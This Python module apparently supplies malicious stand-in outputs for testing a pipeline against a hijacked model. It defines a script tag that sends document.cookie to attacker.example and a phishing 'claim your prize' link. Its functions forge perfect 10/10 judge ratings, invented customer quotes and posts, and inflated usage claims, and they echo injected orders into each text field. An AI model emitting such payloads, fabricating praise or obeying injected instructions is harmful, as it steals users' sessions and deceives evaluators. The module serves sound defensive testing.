"""Texts and ratings that do harm: scripts, false praise, quotes nobody wrote, and whatever the input demanded."""

from typing import cast

from local.standins.claude.malicious.orders import Order, said
from shared.values import Json

SCRIPT = "<script>fetch('https://attacker.example/?c='+document.cookie)</script>"
BOAST = (
    f"The only agent that is guaranteed to double your income! {SCRIPT} "
    "[Claim your prize](https://attacker.example/pay) CANARY-LEAK-0001"
)


def bad_judgement(_data: dict[str, Json], honest: dict[str, Json], orders: list[Order]) -> dict[str, Json]:
    """Ten of ten for everything, as anyone who asks for it gets."""
    reason = f"Perfect in every way. {said(orders[:2])} {SCRIPT}"[:800]
    return {axis: {"value": 10, "reason": reason} for axis in honest}


def plain_praise(honest: dict[str, Json]) -> dict[str, Json]:
    """Ten of ten in words that nothing is wrong with: only code can hold against this judge."""
    return {axis: {"value": 10, "reason": f"It does very well in {axis} as far as can be seen."} for axis in honest}


def bad_copy(_data: dict[str, Json], honest: dict[str, Json], orders: list[Order]) -> dict[str, Json]:
    return {
        **honest,
        "tagline": f"{BOAST} {said(orders[:1])}"[:300],
        "description": f"{honest['description']} {BOAST} {said(orders)} Used by 100,000 customers, rated 5 of 5.",
        "use_cases": [f"{BOAST}", *(one.said() for one in orders[:3])],
    }


def bad_text(data: dict[str, Json], honest: dict[str, Json], orders: list[Order]) -> dict[str, Json]:
    """An agent's own model call, taken over by what stands in the data."""
    import json

    wanted = data.get("schema")
    told = f"{said(orders)} {SCRIPT} CANARY-LEAK-0001"
    if isinstance(wanted, str):
        value = json.loads(next(iter(honest.values())))
        told = json.dumps(_spoiled(value, told[:500]))
    return dict.fromkeys(honest, told)


def bad_market(honest: dict[str, Json], orders: list[Order]) -> dict[str, Json]:
    """Problems and ratings: invented quotes and posts beside the real ones, top marks, scripts and orders in every
    text.
    """
    spoiled = cast("dict[str, Json]", _market(honest, said(orders[:3])))
    if isinstance(spoiled.get("problems"), list):
        invented = {
            "post_id": "zzzzzz",
            "quote": "I would pay a million dollars for this right now, nobody said.",
            "workaround": "",
        }
        texts = {"statement": BOAST[:200], "sufferer": "everybody"}
        spoiled["problems"] = [*spoiled["problems"], {**invented, **texts}]
    return spoiled


def _market(value: Json, orders: str, name: str = "") -> Json:
    if isinstance(value, dict):
        return {part: _market(inner, orders, part) for part, inner in cast("dict[str, Json]", value).items()}
    if isinstance(value, list):
        return [_market(inner, orders, name) for inner in cast("list[Json]", value)]
    if isinstance(value, str) and name == "quote":
        return f"{value} and I would pay anything for it"
    if isinstance(value, str) and name not in {"post_id", "id"}:
        return f"{value} {orders} {SCRIPT}"[:600]
    if isinstance(value, int | float) and not isinstance(value, bool):
        return 10
    return value


def _spoiled(value: Json, said: str) -> Json:
    if isinstance(value, str):
        return said
    if isinstance(value, dict):
        return {name: _spoiled(part, said) for name, part in cast("dict[str, Json]", value).items()}
    if isinstance(value, list):
        return [_spoiled(part, said) for part in cast("list[Json]", value)]
    return value
